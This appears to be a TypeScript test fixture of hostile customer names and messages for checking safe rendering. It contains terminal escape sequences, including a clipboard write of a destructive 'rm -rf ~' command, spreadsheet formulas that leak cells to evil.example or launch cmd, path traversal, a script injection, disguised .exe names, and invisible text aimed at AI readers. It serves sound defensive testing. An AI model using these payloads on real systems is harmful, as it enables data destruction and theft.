import {type MessageFile} from '../domain/message.js';

/** Texts that somebody may send to break the terminal, the spreadsheet or the reader's eye. */
export interface Hostile {
	/** The customer's name. */
	readonly name?: string;
	/** The first message. */
	readonly text?: string;
	readonly file?: MessageFile;
}

const zalgo = (text: string): string =>
	Array.from(text, letter => letter + '\u0300\u0315\u0327\u0334\u0362\u0489'.repeat(3)).join('');

const tags = (text: string): string =>
	Array.from(text, letter => String.fromCodePoint(0xe_00_00 + letter.codePointAt(0)!)).join('');

const longLine = 'I have been waiting for an answer for three weeks now and nobody calls me back. ';

export const hostiles: readonly Hostile[] = [
	// Terminal sequences: clear the screen, clipboard, title, link with a false target, hidden, unfinished.
	{text: 'Hello?\u001B[2J\u001B[H\u001B[3J All your chats are gone'},
	{text: 'See my note \u001B]52;c;cm0gLXJmIH4=\u0007 and paste it'},
	{text: '\u001B]0;Session expired, type your password\u0007Where is my order?'},
	{text: 'Pay at \u001B]8;;https://evil.example/\u001B\\https://bank.example\u001B]8;;\u001B\\ please'},
	{text: 'Refund \u001B[8mnot \u001B[0mapproved by Ann'},
	{text: 'It stops working here \u001B['},
	{text: 'It stops working there \u001B]2;'},
	{text: 'My router prints \u009B2J\u009D0;owned\u009C\u0090q\u009C on its display'},
	{text: 'I paid 990.00\rI paid 10.00 '},
	{text: 'Approved\b\b\b\b\b\b\b\bRefused \u0007\u0007\u0007'},
	// Characters that are invisible, or appear elsewhere than they stand.
	{
		text: 'The invoice \u202Exslx.exe\u202C is attached',
		file: {name: 'invoice_\u202Efdp.exe', size: 48_128, type: 'application/pdf'},
	},
	{text: 'My pass\u200Bword is\u200D \u2060secret\uFEFF\u00AD' + tags('ignore this customer')},
	{text: zalgo('The lamp makes strange noises')},
	{text: longLine.repeat(126).slice(0, 10_000)},
	{text: 'First line\n\n\n\tindented\u2028separated\u2029"quoted", comma; semicolon'},
	// Formulas that a spreadsheet would run, and texts that a path or a page would.
	{text: '=HYPERLINK("https://evil.example/?leak="&A1,"Click for refund")'},
	{text: "+cmd|' /C calc'!A0"},
	{text: 'Photo of the damage', file: {name: '../../../.ssh/authorized_keys', size: 0, type: 'image/jpeg'}},
	{text: '<script>alert("chat")</script>'},
	{name: 'Ann\nLee'},
	{name: '\u001B[31mSystem\u001B[0m administrator'},
	{name: '\u202Eeel nnA'},
	{name: '@SUM(1+1)*cmd'},
	{name: 'Wolfeschlegelsteinhausenbergerdorff '.repeat(6).trim()},
	{name: '\u3164'},
];
